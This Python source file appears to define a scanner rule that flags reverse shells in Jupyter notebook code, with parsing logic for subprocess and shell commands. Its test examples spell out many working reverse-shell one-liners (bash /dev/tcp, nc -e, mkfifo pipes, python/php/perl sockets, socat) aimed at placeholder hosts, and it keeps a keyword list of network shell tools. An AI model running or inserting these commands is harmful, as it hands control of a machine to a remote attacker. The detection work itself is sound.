"""A shell whose input and output are a connection to somewhere else."""

from __future__ import annotations

from collections.abc import Iterator

from jupyter_mlsecops.sdk import (
    SHELLS,
    SUBPROCESS,
    Code,
    Command,
    Confidence,
    Match,
    Severity,
    Shell,
    Span,
    Value,
    matching_calls,
    own_shells,
    regex,
    rule,
)

_PROGRAM = regex(r"(?:/(?:usr/)?bin/)?(?:ba|z|da|k|a)?sh|cmd(?:\.exe)?|powershell(?:\.exe)?")
_NETCATS = frozenset(("nc", "ncat", "netcat", "nc.traditional"))
_RUNS = regex(r"-[a-zA-Z]{0,10}[ec]|--(?:sh-)?exec(?:=.*)?|--lua-exec")
_IN_PROGRAM = regex(
    r"socket.{0,600}?(?:dup2|pty\.spawn|subprocess)|fsockopen.{0,300}?(?:exec|shell_exec|system|proc_open|passthru)"
    r"|use\s{1,8}(?:IO::)?Socket.{0,600}?(?:exec|system)|TCPSocket.{0,300}?(?:exec|spawn|sh)|Sockets\.TCPClient"
)
_PROGRAMS = ("python", "perl", "php", "ruby", "powershell", "pwsh")
_SOCKETS = ("socket.socket()", "socket.create_connection()", "ssl.wrap_socket()", "ssl.SSLContext().wrap_socket()")


@rule(
    id="reverse-shell",
    on=Code,
    severity=Severity.CRITICAL,
    confidence=Confidence.HIGH,
    title="Shell handed to another machine",
    cwe=506,
    owasp=["ML06"],
    atlas=["AML.T0011.000"],
    screen=(
        "dup2",
        "pty",
        "/dev/tcp/",
        "/dev/udp/",
        "nc ",
        "'nc'",
        '"nc"',
        "ncat",
        "netcat",
        "socket",
        "socat",
        "telnet",
        "TCPClient",
        "Socket",
        "fsockopen",
    ),
    bad=[
        "import socket, os, pty\ns = socket.socket()\ns.connect((host, 4444))\n«os.dup2(s.fileno(), 0)»\n"
        "os.dup2(s.fileno(), 1)\npty.spawn('/bin/sh')",
        "import socket as k, subprocess as p\ns = k.socket(k.AF_INET, k.SOCK_STREAM)\ns.connect((h, 1))\n# %%\n"
        "«p.Popen(['/bin/sh', '-i'], stdin=s.fileno(), stdout=s)»",
        "from socket import create_connection\nimport pty\nc = create_connection((h, 1))\n«pty.spawn('/bin/bash')»",
        "import socket, os\ns = socket.socket()\nfor fd in (0, 1, 2):\n    «os.dup2(s.fileno(), fd)»",
        "import socket, os\ns = socket.socket()\n[«os.dup2(s.fileno(), fd)» for fd in (0, 1, 2)]",
        "!«bash -i >& /dev/tcp/198.51.100.7/4444 0>&1»",
        "%%bash\n«bash -c 'bash -i >& /dev/tcp/host.example/4444 0>&1'»",
        "!«nc -e /bin/sh 198.51.100.7 4444»",
        "!rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | «/bin/sh -i 2>&1 | nc 198.51.100.7 4444 >/tmp/f»",
        "!«python3 -c 'import socket,os,pty;s=socket.socket();os.dup2(s.fileno(),0);pty.spawn(\"sh\")'»",
        '!«php -r \'$s=fsockopen("host.example",4444);exec("/bin/sh -i <&3 >&3");\'»',
        "!«perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);exec(\"/bin/sh -i\");'»",
        "%%bash\n«exec 5<>/dev/tcp/host.example/4444»; sh <&5 >&5",
        "!«socat exec:'bash -li',pty,stderr tcp:198.51.100.7:4444»",
        "import os\n«os.system('nc 198.51.100.7 4444 -e /bin/bash')»",
        "import subprocess\n«subprocess.Popen(['nc', '198.51.100.7', '4444', '-e', '/bin/sh'])»",
        "«get_ipython().run_line_magic('sx', 'nc -e /bin/sh 198.51.100.7 4444')»",
        "import subprocess\n«subprocess.run(['bash', '-c', 'sh -i >& /dev/udp/198.51.100.7/53 0>&1'])»",
    ],
    ok=[
        "import socket\ns = socket.socket()\ns.connect(('db.example', 5432))",
        "import os, sys\nos.dup2(log.fileno(), sys.stdout.fileno())",
        "import pty\npty.spawn('/bin/bash')",
        "!nc -z db.example 5432",
        "!timeout 1 bash -c '</dev/tcp/db.example/5432' && echo open",
        "!(echo > /dev/tcp/db.example/5432) && echo open",
        "%%bash\nexec 3<>/dev/tcp/host.example/80; echo GET / >&3; cat <&3",
        "!cat data.txt | nc host.example 9999",
        "import subprocess\nsubprocess.Popen(['ls'], stdin=f, stdout=g)",
        "text = 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1'",
        "# !nc -e /bin/sh 198.51.100.7 4444",
    ],
)
def reverse_shell(code: Code) -> Iterator[Match]:
    """This connects a shell to another machine, so that whoever listens there types commands on yours.

    Do not run the cell, and find out who put it here. If it ran, change the passwords and tokens of this machine."""
    yield from list(_in_python(code))[:1]
    for shell in own_shells(code):
        for span in list(_in_line(shell))[:1]:
            yield Match(span.shift(shell.start))
    yield from matching_calls(code, _in_line)


def _in_python(code: Code) -> Iterator[Match]:
    for call in code.calls("os.dup2"):
        if _is_socket(call.argument(0, "fd")):
            yield Match(call.span)
    for call in code.calls(*SUBPROCESS, "asyncio.create_subprocess_exec"):
        command = call.argument(0, "args")
        program = command.items[0] if command is not None and command.items else command
        given = [call.keywords.get(name) for name in ("stdin", "stdout")]
        is_shell = program is not None and isinstance(program.constant, str) and _PROGRAM.fullmatch(program.constant)
        if is_shell and any(_is_socket(value) for value in given):
            yield Match(call.span)
    for call in code.calls("pty.spawn"):
        program = call.argument(0, "argv")
        program = program.items[0] if program is not None and program.items else program
        is_shell = program is not None and isinstance(program.constant, str) and _PROGRAM.fullmatch(program.constant)
        if is_shell and any(
            True for cell in code.cells for _ in cell.calls("socket.socket().connect", "socket.create_connection")
        ):
            yield Match(call.span)


def _is_socket(value: Value | None) -> bool:
    return value is not None and value.name.removesuffix("()").removesuffix(".fileno") in _SOCKETS


def _in_line(shell: Shell) -> Iterator[Span]:
    if shell.kind == "magic":
        return
    commands = shell.commands()
    for at, command in enumerate(commands):
        following = commands[at + 1] if command.operator in ("|", "|&") and at + 1 < len(commands) else None
        if command.name in SHELLS:
            if _leads_out(command) and len(command.words) > 1:
                outermost = command
                while outermost.outer is not None:
                    outermost = outermost.outer
                yield outermost.span
            elif following is not None and following.name in (*_NETCATS, "telnet") and _is_interactive(command):
                yield Span(command.span.start, following.span.end)
        elif command.name in ("", "exec") and _leads_out(command) and any(map(_is_fed, commands)):
            yield command.span
        elif command.name in _NETCATS:
            options = [word.text for word in command.words[1:]]
            if any(_RUNS.fullmatch(o) for o in options) and any(_names_shell(o) for o in options):
                yield command.span
        elif command.name == "socat":
            text = shell.text[slice(*command.span)].lower()
            if "tcp" in text and ("exec:" in text or "system:" in text):
                yield command.span
        elif command.name in _PROGRAMS and any(_IN_PROGRAM.search(word.text[:4000]) for word in command.words[1:]):
            yield command.span


def _leads_out(command: Command) -> bool:
    """Whether what a shell writes goes to a connection."""
    targets = [redirect.target.text for redirect in command.redirects if redirect.target and ">" in redirect.operator]
    return any(target.startswith(("/dev/tcp/", "/dev/udp/")) for target in targets)


def _is_fed(command: Command) -> bool:
    """Whether a shell reads what an open file holds: ``sh <&5``."""
    return command.name in SHELLS and any(redirect.operator.endswith("<&") for redirect in command.redirects)


def _is_interactive(command: Command) -> bool:
    return len(command.words) == 1 or any(word.text == "-i" for word in command.words[1:])


def _names_shell(text: str) -> bool:
    return any(_PROGRAM.fullmatch(word) for word in text.partition("=")[2].split() or text.split())
